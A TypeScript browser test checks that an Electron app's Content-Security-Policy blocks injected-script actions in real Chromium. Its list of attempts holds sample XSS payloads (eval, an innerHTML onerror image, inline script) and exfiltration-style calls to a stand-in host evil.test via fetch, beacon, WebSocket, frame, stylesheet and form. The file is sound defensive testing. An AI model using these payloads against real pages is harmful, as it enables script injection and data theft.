import { chromium } from 'playwright-core'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createAppHandler } from '#shells/electron/protocol.ts'
import type { FileMap } from '#shells/electron/protocol.ts'

// Chromium knows no app://, so the handler's answers come under a secure origin of the same shape.
const origin = 'https://anteroom.invalid'
const script = 'text/javascript; charset=utf-8'
const files: FileMap = new Map([
  [
    'app://anteroom/index.html',
    {
      type: 'text/html; charset=utf-8',
      body: '<!doctype html><script src="own.js"></script><style nonce="%CSP_NONCE%">p{color:red}</style><p>Own</p>',
    },
  ],
  ['app://anteroom/own.js', { type: script, body: 'window.own = 1' }],
])

/** Tries one thing that an injected script would do; names what the page had to say against it. */
type Attempt = readonly [name: string, attempt: () => unknown]

const attempts: readonly Attempt[] = [
  // Later, since the browser lets an evaluation by the debugger use eval.
  ['eval', () => void setTimeout(() => (0, eval)('window.ran = 1'))],
  ['new Function', () => void setTimeout(() => new Function('window.ran = 1')())],
  ['markup by innerHTML', () => (document.body.innerHTML = '<img src=x onerror="window.ran = 1">')],
  [
    'an inline script',
    () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = 1' })),
  ],
  [
    'a foreign image',
    () => (document.body.appendChild(document.createElement('img')).src = 'https://evil.test/i'),
  ],
  ['a foreign fetch', () => void fetch('https://evil.test/f').catch(() => {})],
  ['a fetch at home', () => void fetch('/own.js').catch(() => {})],
  ['a beacon', () => navigator.sendBeacon('https://evil.test/b', 'names')],
  ['a socket', () => new WebSocket('wss://evil.test/w')],
  [
    'a foreign frame',
    () => (document.body.appendChild(document.createElement('iframe')).src = 'https://evil.test/frame'),
  ],
  [
    'a foreign style sheet',
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.test/s' }),
      ),
  ],
  [
    'a form',
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/form' })
      document.body.append(form)
      form.submit()
    },
  ],
]

describe('the Content-Security-Policy in a real browser', () => {
  let browser: Browser
  let page: Page
  const outbound: string[] = []

  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: process.env['ANTEROOM_CHROMIUM'] ?? '/usr/bin/chromium',
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
      ],
    })
    page = await browser.newPage()
    const handle = createAppHandler(files)
    await page.route('**/*', async (route) => {
      const { pathname, origin: asked } = new URL(route.request().url())
      if (asked !== origin) {
        outbound.push(route.request().url())
        return route.abort()
      }
      const response = handle({ url: `app://anteroom${pathname}`, method: route.request().method() })
      const headers = Object.fromEntries(response.headers)
      return route.fulfill({
        status: response.status,
        headers,
        body: Buffer.from(await response.arrayBuffer()),
      })
    })
    page.on('websocket', (socket) => outbound.push(socket.url()))
  })

  afterAll(async () => {
    await browser?.close()
  })

  it('runs our own script and style', async () => {
    await page.goto(`${origin}/index.html`)
    expect(await page.evaluate('window.own')).toBe(1)
    expect(await page.evaluate('getComputedStyle(document.querySelector("p")).color')).toBe('rgb(255, 0, 0)')
  })

  it.each(attempts)('blocks %s', async (_name, attempt) => {
    await page.goto(`${origin}/index.html`)
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', () => Object.assign(window, { blocked: true }))
    })
    await page.evaluate(attempt).catch(() => {})
    await expect.poll(() => page.evaluate('window.blocked'), { timeout: 5000 }).toBe(true)
    expect(await page.evaluate('window.ran')).toBeUndefined()
    expect(page.url()).toBe(`${origin}/index.html`)
    expect(outbound).toEqual([])
  })
})
